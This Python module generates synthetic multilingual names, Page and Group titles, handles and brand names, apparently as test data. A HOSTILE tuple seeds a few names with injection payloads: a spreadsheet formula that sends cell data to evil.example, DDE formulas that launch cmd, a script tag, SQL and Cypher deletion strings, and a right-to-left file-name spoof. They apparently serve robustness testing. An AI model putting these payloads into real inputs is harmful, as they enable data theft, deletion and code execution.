"""Names of people, Pages and Groups in several scripts, and a few that try to do harm."""

from __future__ import annotations

from typing import Final

import numpy as np
import numpy.typing as npt
import polars as pl

_GIVEN_FAMILY: Final[dict[str, tuple[str, str]]] = {
    "IN": (
        "Amit Priya Rahul Neha Vikram Anjali Suresh Pooja Arjun Kavita Deepak Sunita Rohan "
        "Meena Sanjay Divya "
        "अमित प्रिया राहुल नेहा विक्रम",
        "Sharma Patel Singh Kumar Gupta Verma Reddy Nair Joshi Iyer Mehta Das Yadav Mishra शर्मा पटेल सिंह कुमार",
    ),
    "PK": (
        "Ahmed Ayesha Bilal Fatima Hassan Zainab Usman Sana Imran Maryam Kashif Hina "
        "Tariq Nadia Asad Rabia احمد عائشہ",
        "Khan Malik Butt Chaudhry Qureshi Sheikh Raja Mirza Abbasi Awan Baig Shah خان ملک",
    ),
    "BD": (
        "Rahim Karim Nasrin Farhana Tanvir Sumaiya Jahid Mitu রহিম নাসরিন",
        "Hossain Islam Akter Rahman Chowdhury Begum হোসেন",
    ),
    "US": (
        "James Mary Robert Linda Michael Jennifer David Ashley Maria Daniel Karen Chris",
        "Smith Johnson Williams Brown Jones Garcia Miller Davis Wilson O'Neill Nguyen",
    ),
    "GB": (
        "Oliver Amelia Harry Emily George Sophie Jack Grace",
        "Taylor Davies Evans Thomas Roberts Wright Walker Hughes",
    ),
    "AE": (
        "محمد فاطمة Omar Layla Yousef Mariam Khalid Noura",
        "الهاشمي Al-Mansoori Haddad Nasser Saleh Rahman",
    ),
    "ID": ("Budi Siti Agus Dewi Eko Putri Rizky Wulan", "Santoso Wijaya Lestari Pratama Hidayat Saputra"),
    "BR": ("João Maria Pedro Ana Lucas Juliana Rafael Beatriz", "Silva Souza Oliveira Costa Pereira Araújo"),
    "NG": ("Chinedu Ngozi Emeka Amina Tunde Ifeoma Segun Zainab", "Okafor Adeyemi Bello Eze Balogun Ibrahim"),
    "EG": ("أحمد مريم Mahmoud Heba Karim Nour", "حسن Mostafa Ibrahim Fathy السيد"),
    "DE": ("Lukas Anna Jürgen Sabine Felix Lena", "Müller Schmidt Schäfer Weber Groß Becker"),
    "JP": ("太郎 花子 健一 美咲 Kenji Yuki", "佐藤 鈴木 高橋 田中 Watanabe"),
}

#: What an adversary, or an unlucky person, types into a name or a bio.
HOSTILE: Final = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "<script>alert('cib')</script>",
    'Robert"); DROP TABLE accounts;--',
    "\u202egnp.exe\u202c Right To Left",
    'Comma, Newline\nand "quotes"',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'}) MATCH (n) DETACH DELETE n //",
    "-2+3+cmd|' /C notepad'!A1",
)

_PLACES: Final = [
    "Delhi",
    "Mumbai",
    "Lahore",
    "Karachi",
    "Dhaka",
    "Pune",
    "Jaipur",
    "Multan",
    "Kochi",
    "Leeds",
    "Austin",
    "Lagos",
    "Cairo",
    "Jakarta",
    "Recife",
    "Berlin",
    "Osaka",
    "Dubai",
    "Bristol",
    "Nagpur",
    "Quetta",
    "Sylhet",
    "Chicago",
    "Abuja",
]
_WORDS: Final = [
    "Voice",
    "Friends",
    "Lovers",
    "Daily",
    "Official",
    "Club",
    "World",
    "House",
    "Corner",
    "Times",
    "Hub",
    "Circle",
    "Point",
    "Studio",
    "Bazaar",
    "Foundation",
    "Community",
    "Update",
    "Zone",
    "Garden",
]


_SYLLABLES: Final = (
    ["Al", "Bor", "Cal", "Dal", "Er", "Fen", "Gar", "Hal", "In", "Jor", "Kel", "Lor", "Mar", "Nor", "Or"],
    ["ba", "di", "go", "ka", "li", "mo", "na", "ri", "so", "tu", "va", "wi", "xa", "ye", "zo"],
    ["co", "dra", "fi", "lex", "mart", "nex", "pol", "ra", "sys", "ta", "via", "way", "zen", "tis", "no"],
)


def people(rng: np.random.Generator, countries: npt.NDArray[np.str_]) -> npt.NDArray[np.object_]:
    """Return a name for a person of each country."""
    names = np.empty(len(countries), dtype=object)
    for country in np.unique(countries):
        here = np.flatnonzero(countries == country)
        given, family = (np.array(words.split(), dtype=object) for words in _GIVEN_FAMILY[str(country)])
        pick = rng.integers(0, len(given), len(here)), rng.integers(0, len(family), len(here))
        names[here] = given[pick[0]] + " " + family[pick[1]]
    return with_hostile(rng, names)


def titles(rng: np.random.Generator, subjects: npt.NDArray[np.object_]) -> npt.NDArray[np.object_]:
    """Return a title for a Page or Group about each subject."""
    n = len(subjects)
    places, words = np.array(_PLACES, dtype=object), np.array(_WORDS, dtype=object)
    titles = np.where(
        rng.random(n) < 0.5,
        places[rng.integers(0, len(places), n)] + " " + subjects,
        subjects + " " + words[rng.integers(0, len(words), n)],
    )
    titles = np.where(rng.random(n) < 0.4, titles + " " + words[rng.integers(0, len(words), n)], titles)
    return with_hostile(rng, titles.astype(object))


def with_hostile(rng: np.random.Generator, names: npt.NDArray[np.object_]) -> npt.NDArray[np.object_]:
    """Replace a few in a thousand by hostile ones."""
    hit = rng.random(len(names)) < 0.003
    names[hit] = np.array(HOSTILE, dtype=object)[rng.integers(0, len(HOSTILE), int(hit.sum()))]
    return names


def handles(rng: np.random.Generator, names: npt.NDArray[np.object_]) -> pl.Series:
    """Return a handle for each name: its Latin letters and digits."""
    number = pl.Series(rng.integers(1, 9999, len(names))).cast(pl.String)
    return (
        pl.Series(names.tolist(), dtype=pl.String)
        .str.to_lowercase()
        .str.replace_all("[^a-z0-9]+", ".")
        .str.strip_chars(".")
        .str.slice(0, 30)
        + "."
        + number
    )


def brand(rng: np.random.Generator) -> str:
    """Return the name of a business."""
    first, middle, last = (str(rng.choice(part)) for part in _SYLLABLES)
    return first + middle + last
